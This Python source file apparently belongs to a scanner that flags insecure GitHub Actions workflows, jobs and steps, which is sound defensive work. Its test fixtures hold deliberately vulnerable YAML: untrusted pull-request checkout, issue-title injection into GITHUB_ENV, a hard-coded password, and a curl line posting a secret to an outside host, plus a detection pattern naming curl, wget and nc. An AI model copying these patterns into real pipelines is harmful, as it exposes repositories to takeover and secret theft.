"""GitHub Actions: workflows, jobs and steps."""

from bartizan.content.kinds.pipelines.job import PipelineJob
from bartizan.core.kind import Asset, Flag, Link, Many, Text
from bartizan.core.source import Block, Inverse, Shown, Source


class Workflow(Asset, kind="github.workflow"):
    """What GitHub runs when something happens in a repository."""

    name = Text("Its name.")
    events = Many("What starts it.")
    names_permissions = Flag("It says what its token may do, here or in every job.")
    writes_all = Flag("Its token may write everything.")
    unsafe_commands = Flag("Output of commands may set variables of later steps.")
    jobs = Link(lambda: Job, "Its jobs.")


class Job(PipelineJob, kind="github.job"):
    """Steps that run on one machine, or a call of another workflow."""

    events = Many("What starts it.")
    names_permissions = Flag("It or its workflow says what its token may do.")
    writes_all = Flag("Its token may write everything.")
    self_hosted = Flag("It runs on a machine of your own.")
    calls = Text("The workflow it calls.")
    call_pinned = Flag("The workflow it calls is of this repository, or named by commit.")
    inherits_secrets = Flag("It hands all secrets to the workflow it calls.")
    trusts_actor = Flag("A condition looks at who acted last, which others can arrange.")
    timed = Flag("It is stopped after a time.")
    environment = Text("The environment it deploys to.")
    workflow = Link(Workflow, "The workflow it is part of.")
    steps = Link(lambda: Step, "Its steps.")


class Step(Asset, kind="github.step"):
    """An action or a script."""

    events = Many("What starts it.")
    action = Text("The action it uses.")
    pinned = Flag("Its action is of this repository, or named by commit or digest.")
    untrusted_checkout = Flag("With rights of this repository, it takes the code of a pull request of anybody.")
    injects = Flag("Text that strangers write becomes part of a script.")
    injects_environment = Flag("Text that strangers write goes into the environment of later steps.")
    literal_secrets = Flag("An input or variable that is named like a secret has its value in the file.")
    secrets_on_command_line = Flag("A secret becomes part of a script.")
    keeps_credentials = Flag("A checkout leaves the token of the job in the work tree.")
    sends_out = Flag("A command sends a secret to somewhere else.")
    job = Link(Job, "The job it is part of.")
    betrays = Flag("Whoever maintains its action has turned against those who use it.", derived=True)


FROM_WORKFLOW = Source(
    of=Workflow,
    each=Block("github/workflow"),
    reads={
        Workflow.name: "name",
        Workflow.events: "events",
        Workflow.names_permissions: "permissions != `null`",
        Workflow.writes_all: "permissions == 'write-all'",
        Workflow.unsafe_commands: "flag(not_null(env.ACTIONS_ALLOW_UNSECURE_COMMANDS, `false`))",
        Workflow.jobs: Inverse(Job.workflow),
    },
    shows=[
        Shown(
            text="""
on: [push]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
""",
            gives=Workflow(
                ".github/workflows/example.yml",
                name=None,
                events=frozenset({"push"}),
                names_permissions=False,
                writes_all=False,
                unsafe_commands=False,
                jobs=frozenset({".github/workflows/example.yml#jobs.build"}),
            ),
        ),
        Shown(
            text="""
on: [pull_request_target]
permissions: write-all
env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}
jobs:
  build:
    runs-on: [self-hosted]
    timeout-minutes: 5
    environment: production
    if: github.actor == 'dependabot[bot]'
    permissions: {contents: write}
    secrets: inherit
    uses: other/repo/.github/workflows/a.yml@main
  steps:
    runs-on: ubuntu-latest
    if: github.actor == 'dependabot[bot]'
    container: nginx
    environment: production
    timeout-minutes: 5
    steps:
      - uses: other/action@v1
        with: {password: hunter2hunter2}
      - uses: actions/checkout@v4
        with: {ref: "${{ github.event.pull_request.head.sha }}"}
      - run: |
          echo ${{ github.event.issue.title }} >> $GITHUB_ENV
          curl -d ${{ secrets.KEY }} https://shop.example
""",
            gives=Workflow(
                ".github/workflows/example.yml",
                name=None,
                events=frozenset({"pull_request_target"}),
                names_permissions=True,
                writes_all=True,
                unsafe_commands=True,
            ),
        ),
    ],
)


JOB_FROM_WORKFLOW = Source(
    of=Job,
    each=Block("github/job"),
    reads={
        Job.events: "events",
        Job.names_permissions: "permissions != `null`",
        Job.writes_all: "permissions == 'write-all'",
        Job.self_hosted: "self_hosted",
        Job.calls: "uses.text",
        Job.call_pinned: "uses == `null` || uses.local || uses.pinned",
        Job.inherits_secrets: "secrets == 'inherit'",
        Job.trusts_actor: "matches(to_string(not_null(if, '')), 'github[.]actor *(==|!=) *.[a-z-]+.bot')",
        Job.timed: "timeout_minutes != `null`",
        Job.environment: "environment.name",
        Job.workflow: "[workflow]",
        Job.steps: Inverse(Step.job),
    },
    shows=[
        Shown(
            text="""
on: [push]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
""",
            gives=Job(
                ".github/workflows/example.yml#jobs.build",
                events=frozenset({"push"}),
                names_permissions=False,
                writes_all=False,
                self_hosted=False,
                calls=None,
                call_pinned=True,
                inherits_secrets=False,
                trusts_actor=False,
                timed=False,
                environment=None,
                workflow=frozenset({".github/workflows/example.yml"}),
                steps=frozenset({".github/workflows/example.yml#jobs.build.steps.0"}),
            ),
        ),
        Shown(
            text="""
on: [pull_request_target]
permissions: write-all
env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}
jobs:
  build:
    runs-on: [self-hosted]
    timeout-minutes: 5
    environment: production
    if: github.actor == 'dependabot[bot]'
    permissions: {contents: write}
    secrets: inherit
    uses: other/repo/.github/workflows/a.yml@main
  steps:
    runs-on: ubuntu-latest
    if: github.actor == 'dependabot[bot]'
    container: nginx
    environment: production
    timeout-minutes: 5
    steps:
      - uses: other/action@v1
        with: {password: hunter2hunter2}
      - uses: actions/checkout@v4
        with: {ref: "${{ github.event.pull_request.head.sha }}"}
      - run: |
          echo ${{ github.event.issue.title }} >> $GITHUB_ENV
          curl -d ${{ secrets.KEY }} https://shop.example
""",
            gives=Job(
                ".github/workflows/example.yml#jobs.build",
                events=frozenset({"pull_request_target"}),
                names_permissions=True,
                writes_all=False,
                calls="other/repo/.github/workflows/a.yml@main",
                call_pinned=False,
                inherits_secrets=True,
                trusts_actor=True,
                timed=True,
                environment="production",
                workflow=frozenset({".github/workflows/example.yml"}),
                steps=frozenset(),
            ),
        ),
    ],
)


STEP_FROM_WORKFLOW = Source(
    of=Step,
    each=Block("github/step"),
    reads={
        Step.events: "events",
        Step.action: "uses.text",
        Step.pinned: "uses == `null` || uses.local || uses.pinned",
        Step.untrusted_checkout: "(contains(events, 'pull_request_target') || contains(events, 'workflow_run') || contains(events, 'issue_comment')) && not_null(uses.action, '') == 'actions/checkout' && matches(to_string(not_null(with.ref, with.repository, '')), 'head[.](sha|ref)|head_ref|head_sha|head_branch|head[.]repo|refs/pull')",
        Step.injects: "length(expressions[].flows[] | [?matches(@, '^github[.](head_ref$|event[.](issue[.](title|body)|pull_request[.](title|body|head[.](ref|label|repo[.]default_branch))|comment[.]body|review[.]body|review_comment[.]body|discussion[.](title|body)|discussion_comment[.]body|pages[.].*page_name|commits.*[.](message|author[.](email|name))|head_commit[.](message|author[.](email|name))|workflow_run[.](head_branch|display_title|head_commit[.].*)|head_commit[.].*))')]) > `0`",
        Step.injects_environment: "matches(to_string(not_null(run, '')), 'GITHUB_(ENV|PATH)') && length(expressions[].flows[] | [?matches(@, '^github[.](head_ref$|event[.](issue[.](title|body)|pull_request[.](title|body|head[.](ref|label|repo[.]default_branch))|comment[.]body|review[.]body|review_comment[.]body|discussion[.](title|body)|discussion_comment[.]body|pages[.].*page_name|commits.*[.](message|author[.](email|name))|head_commit[.](message|author[.](email|name))|workflow_run[.](head_branch|display_title|head_commit[.].*)|head_commit[.].*))')]) > `0`",
        Step.literal_secrets: "length([values(not_null(with, `{}`)), values(not_null(env, `{}`))][] | [?secret && literal]) > `0`",
        Step.secrets_on_command_line: "length(expressions[].contexts[] | [?starts_with(@, 'secrets.')]) > `0`",
        Step.keeps_credentials: "not_null(uses.action, '') == 'actions/checkout' && flag(not_null(with.\"persist-credentials\", `true`))",
        Step.sends_out: "length(commands[?contains(['curl', 'wget', 'nc', 'ncat'], program) && matches(join(' ', argv), 'secrets[.]|toJSON[(]secrets')]) > `0`",
        Step.job: "[job]",
    },
    shows=[
        Shown(
            text="""
on: [push]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
""",
            gives=Step(
                ".github/workflows/example.yml#jobs.build.steps.0",
                events=frozenset({"push"}),
                action=None,
                pinned=True,
                untrusted_checkout=False,
                injects=False,
                injects_environment=False,
                literal_secrets=False,
                secrets_on_command_line=False,
                keeps_credentials=False,
                sends_out=False,
                job=frozenset({".github/workflows/example.yml#jobs.build"}),
            ),
        ),
        Shown(
            text="""
on: [pull_request_target]
permissions: write-all
env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}
jobs:
  build:
    runs-on: [self-hosted]
    timeout-minutes: 5
    environment: production
    if: github.actor == 'dependabot[bot]'
    permissions: {contents: write}
    secrets: inherit
    uses: other/repo/.github/workflows/a.yml@main
  steps:
    runs-on: ubuntu-latest
    if: github.actor == 'dependabot[bot]'
    container: nginx
    environment: production
    timeout-minutes: 5
    steps:
      - uses: other/action@v1
        with: {password: hunter2hunter2}
      - uses: actions/checkout@v4
        with: {ref: "${{ github.event.pull_request.head.sha }}"}
      - run: |
          echo ${{ github.event.issue.title }} >> $GITHUB_ENV
          curl -d ${{ secrets.KEY }} https://shop.example
""",
            gives=Step(
                ".github/workflows/example.yml#jobs.steps.steps.0",
                events=frozenset({"pull_request_target"}),
                action="other/action@v1",
                pinned=False,
                untrusted_checkout=False,
                injects=False,
                injects_environment=False,
                literal_secrets=True,
                secrets_on_command_line=False,
                keeps_credentials=False,
                sends_out=False,
                job=frozenset({".github/workflows/example.yml#jobs.steps"}),
            ),
        ),
    ],
)
